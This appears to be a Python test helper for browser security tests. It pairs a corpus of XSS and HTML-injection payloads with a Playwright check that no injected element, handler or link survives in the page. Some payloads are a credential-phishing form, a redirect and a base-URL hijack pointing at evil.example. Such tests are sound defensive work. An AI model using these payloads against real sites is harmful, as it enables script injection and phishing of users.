"""Texts that run as script where a page does not escape them."""

from playwright.sync_api import Page

CORPUS = (
    "<script data-owned>alert('script')</script>",
    "\"><img data-owned src=x onerror=alert('attribute')>",
    "'><svg data-owned onload=alert('quote')>",
    "</title></textarea></style></code></pre></option><script data-owned>alert('closed')</script>",
    "--><script data-owned>alert('comment')</script><!--",
    "<a data-owned href=\"javascript:alert('link')\">link</a>",
    "javascript:alert('address')",
    "<details data-owned open ontoggle=alert('toggle')>",
    "<iframe data-owned srcdoc=\"<script>alert('frame')</script>\"></iframe>",
    "<form data-owned action=https://evil.example/><button>Sign in again</button></form>",
    "<meta data-owned http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base data-owned href=https://evil.example/>",
    "<link data-owned rel=stylesheet href=https://evil.example/a.css>",
    "<b data-owned hx-get=/console/runs hx-trigger=load>b</b>",
    "<b data-owned hx-on:htmx:load=alert('htmx')>b</b>",
    '<math data-owned><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)&gt;">',
    "{{ 7 * 7 }} ${7 * 7} {% raw %} <%= 7 * 7 %>",
    "&lt;script data-owned&gt;alert('entity')&lt;/script&gt;",
    "\\u003cscript data-owned\\u003ealert('escape')\\u003c/script\\u003e",
    "\N{LINE SEPARATOR}<script data-owned>alert('separator')</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}tpircs<",
)

OWNED = """() => ({
  elements: [...document.querySelectorAll("[data-owned]")].map(each => each.outerHTML),
  links: [...document.querySelectorAll("[href], [src], [action]")]
    .map(each => each.href ?? each.src ?? each.action).map(String)
    .filter(each => each.startsWith("javascript:") || each.includes("evil.example")),
  handlers: [...document.querySelectorAll("*")].flatMap(each => [...each.attributes])
    .map(each => each.name).filter(each => each.startsWith("on") || each === "style"),
  base: document.baseURI === location.href ? [] : [document.baseURI],
})"""


def assert_not_owned(page: Page) -> None:
    """No element of the page, and no address or handler, comes from the corpus. What ran is an error or a dialog, which
    the fixture `faults` finds."""
    found = page.evaluate(OWNED)
    assert found == {"elements": [], "links": [], "handlers": [], "base": []}, page.url
